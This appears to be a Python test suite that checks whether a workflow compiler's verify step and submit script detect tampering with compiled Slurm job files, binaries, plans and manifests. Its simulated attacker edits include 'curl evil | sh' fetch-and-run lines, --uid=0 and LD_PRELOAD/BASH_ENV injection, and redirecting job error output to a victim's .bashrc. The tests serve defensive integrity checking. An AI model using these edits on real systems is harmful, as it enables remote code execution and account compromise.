#!/usr/bin/python3
"""What lies in out/ is as it was compiled: the manifest, and who looks at it. One file at a time is lent to the
attacker, who changes it; `wfc verify` finds each, submit.sh all but those in itself, a job what is in its plan's head.
Seen to fail: of these, verify found none and submit.sh none, and a job ran the changed command."""
import os
import re

from common import main
from out_common import VICTIM, OutWorld


def script_line(options):
    return f"sed -i 's|^#SBATCH --export.*|{options}|' jobs/01-a.sbatch"


# What is changed, how.
CHANGES = {
    "a function of bin/submit": ("bin/submit", "sed -i 's|^say() {|id > /tmp/x; say() {|' bin/submit"),
    "the name of a function of bin/submit": ("bin/submit", "sed -i 's|umask go-w|umask go+w|' bin/submit"),
    "what srun sees": ("bin/srun-options", "echo 'curl evil | sh' >> bin/srun-options"),
    "wfr": ("bin/wfr", "printf '#!/bin/bash\\nid\\n' > bin/wfr"),
    "a byte of wfr": ("bin/wfr", "printf x | dd of=bin/wfr bs=1 seek=100000 conv=notrunc status=none"),
    "a library": ("lib/LIBRARY", "echo >> lib/LIBRARY"),
    "a line before the commands of a job":
        ("jobs/01-a.sbatch", "sed -i '/^# The command/i curl evil | sh' jobs/01-a.sbatch"),
    "a command in a line of a job": ("jobs/01-a.sbatch", "sed -i 's|^. bin/srun-options|id; &|' jobs/01-a.sbatch"),
    "another wfr": ("jobs/01-a.sbatch", "sed -i 's|^exec bin/wfr|exec /tmp/evil/wfr|' jobs/01-a.sbatch"),
    "--uid": ("jobs/01-a.sbatch", script_line("&\\n#SBATCH --uid=0")),
    "--error": ("jobs/01-a.sbatch", script_line("&\\n#SBATCH --error=/home/victim/.bashrc")),
    "-e": ("jobs/01-a.sbatch", script_line("&\\n#SBATCH -e /home/victim/.bashrc")),
    "--wrap": ("jobs/01-a.sbatch", script_line("&\\n#SBATCH --wrap=id")),
    "--export": ("jobs/01-a.sbatch", script_line("#SBATCH --export=ALL,BASH_ENV=/tmp/evil,LD_PRELOAD=/tmp/e.so")),
    "two options in a line":
        ("jobs/01-a.sbatch", "sed -i 's|^#SBATCH --output=.*|& --error=/home/victim/.bashrc|' jobs/01-a.sbatch"),
    "the plan's text, of the same length": ("plan/PLAN/plan.wfp", "sed -i 's/echo hi/echo yo/' plan/PLAN/plan.wfp"),
    "a byte at the end of the plan":
        ("plan/PLAN/plan.wfp", "printf x | dd of=plan/PLAN/plan.wfp bs=1 conv=notrunc status=none "
                               "seek=$(($(stat -c %s plan/PLAN/plan.wfp) - 1))"),
    "the manifest": ("plan/PLAN/manifest.sha256", "sed -i '/bin.wfr/d;/bin.submit/d' plan/PLAN/manifest.sha256"),
    "a digest": ("plan/PLAN/manifest.sha256", "sed -i '$s/^..../0000/' plan/PLAN/manifest.sha256"),
}
# submit.sh reads itself while it looks: what is before that line is executed.
OF_SUBMIT = {
    "a command of submit.sh": "sed -i 's|^readonly verdict|id > /dev/null; &|' submit.sh",
    "a substitution": "sed -i 's|^readonly plan=|readonly x=$(id) plan=|' submit.sh",
    "without the look": "sed -i '/sha256sum/,/exit 1/d' submit.sh",
}
# These the manifest cannot tell from one that was written so: verify reads the files in it again.
NOT_BY_SUBMIT = {"the manifest"}


def compiled():
    world = OutWorld()
    world.compile()
    library = sorted(os.listdir(os.path.join(world.out, "lib")))[0]
    return world, lambda text: text.replace("PLAN", world.plan).replace("LIBRARY", library)


def changed(world, path, change):
    """`sed -i` makes a new file in the directory, which the attacker may not: it works on a copy."""
    before = world.read(os.path.join(world.out, path))
    top = f"{world.tmp}/x"
    world.lend(path, f"cd {world.out} && mkdir -p {top}/{os.path.dirname(path)} && cp {path} {top}/{path} && cd {top} && "
                     f"{change} && cat {path} > {world.out}/{path} && rm -r {top}")
    assert world.read(os.path.join(world.out, path)) != before, f"`{change}` has changed nothing"


def verify_refuses(world, what):
    done = world.victim("wfc verify out")
    assert done.returncode == 1 and re.search(r"error\[WFC50\d\d\]", done.stdout), f"{what}: verify: {done.stdout}"


def all_is_well():
    world, _ = compiled()
    with world:
        done = world.victim("wfc verify out")
        assert done.returncode == 0 and "as they were compiled" in done.stdout, done.stdout
        # By hand, as the manifest says.
        manifest = world.read(os.path.join(world.out, "plan", world.plan, "manifest.sha256"))
        command = re.search(r"^# (sha256sum .*)$", manifest, re.M)[1]
        done = world.victim(f"cd out && {command}")
        assert done.returncode == 0 and done.stdout.count(": OK") > 8 and "bin/wfr: OK" in done.stdout, done.stdout
        world.submit()
        assert world.was_asked()
        assert world.job().returncode == 0 and world.exists("data/s1/o.txt")
        listed = set(re.findall(r"^[0-9a-f]{64}  (.*)$", manifest, re.M))
        for place, _, files in os.walk(world.out):
            for name in files:
                path = os.path.relpath(os.path.join(place, name), world.out)
                executed = path == "submit.sh" or path.startswith(("bin/", "lib/", "jobs/", f"plan/{world.plan}/"))
                if executed and not path.endswith((".tasks", "manifest.sha256")):
                    assert path in listed, f"{path} is not in the manifest"


def each_change_is_found():
    world, named = compiled()
    with world:
        for what, (path, change) in CHANGES.items():
            changed(world, named(path), named(change))
            verify_refuses(world, what)
            said = world.submit().stdout
            if what not in NOT_BY_SUBMIT:
                assert "files were changed after `wfc compile`" in said and not world.was_asked(), f"{what}: submit.sh: {said}"
            if what.startswith("the plan's text"):
                done = world.job()
                assert done.returncode != 0 and "changed after it was compiled" in done.stdout, done.stdout
                assert not world.exists("data/s1/o.txt"), "the changed command has run"
            # The remedy: a compile writes it again.
            done = world.victim("wfc compile workflow.toml --site cluster && wfc verify out")
            assert done.returncode == 0, f"{what}: {done.stdout}"


def each_change_of_submit_is_found():
    world, named = compiled()
    with world:
        for what, change in OF_SUBMIT.items():
            changed(world, "submit.sh", named(change))
            verify_refuses(world, what)
            done = world.victim("wfc compile workflow.toml --site cluster && wfc verify out")
            assert done.returncode == 0, f"{what}: {done.stdout}"


def what_was_not_compiled_is_found():
    """As a libc in lib/, where the programs would find it."""
    for path in ("lib/libc.so.6", "bin/helper"):
        world, _ = compiled()
        with world:
            world.lend(os.path.dirname(path), f"cp /bin/true {world.out}/{path} && chmod 755 {world.out}/{path}")
            os.chown(os.path.join(world.out, path), VICTIM, VICTIM)
            done = world.victim("wfc verify out")
            assert done.returncode == 1 and "was not written by `wfc compile`" in done.stdout, f"{path}: {done.stdout}"


def the_same_bytes():
    """Of the same workflow, again and elsewhere; and nothing is written again."""
    world, _ = compiled()
    with world:
        manifest = os.path.join(world.out, "plan", world.plan, "manifest.sha256")
        paths = [manifest, os.path.join(world.out, "bin/wfr"), os.path.join(world.out, "submit.sh")]
        before = [(os.stat(path).st_ino, world.read(path)) for path in paths]
        assert world.victim("wfc compile workflow.toml --site cluster").returncode == 0
        assert [(os.stat(path).st_ino, world.read(path)) for path in paths] == before
        assert world.victim("wfc compile workflow.toml --site cluster -o elsewhere").returncode == 0
        assert world.read(f"proj/elsewhere/plan/{world.plan}/manifest.sha256") == before[0][1]


def an_older_plan_stays_valid():
    world, _ = compiled()
    with world:
        older = world.plan
        text = world.read("proj/workflow.toml")
        world.workflow(text.replace("echo hi", "echo there"))
        # Not submitted yet: then jobs of the older plan may be in the queue.
        done = world.victim("wfc compile workflow.toml --site cluster")
        assert done.returncode == 0 and len(os.listdir(os.path.join(world.out, "plan"))) == 2, done.stdout
        words = f"cd out && bin/wfr job --plan {older} --array 01-a --index 0 && cat ../../data/s1/o.txt"
        done = world.victim(words)
        assert done.returncode == 0 and done.stdout.endswith("hi\n"), done.stdout
        done = world.victim(f"cd out && sha256sum --check plan/{older}/manifest.sha256")
        assert f"plan/{older}/plan.wfp: OK" in done.stdout, done.stdout
        assert world.victim("wfc verify out").returncode == 0


def copies_are_compared_by_content():
    """A program of the same size and time."""
    world, _ = compiled()
    with world:
        path = os.path.join(world.out, "bin/wfr")
        info = os.stat(path)
        changed(world, "bin/wfr", "printf x | dd of=bin/wfr bs=1 seek=100000 conv=notrunc status=none")
        os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))
        assert os.stat(path).st_size == info.st_size
        assert world.victim("wfc compile workflow.toml --site cluster").returncode == 0
        with open(path, "rb") as copy, open(os.path.join(world.bin, "wfr"), "rb") as source:
            assert copy.read() == source.read(), "the changed program stays"


if __name__ == "__main__":
    main([all_is_well, each_change_is_found, each_change_of_submit_is_found, what_was_not_compiled_is_found,
          the_same_bytes, an_older_plan_stays_valid, copies_are_compared_by_content])
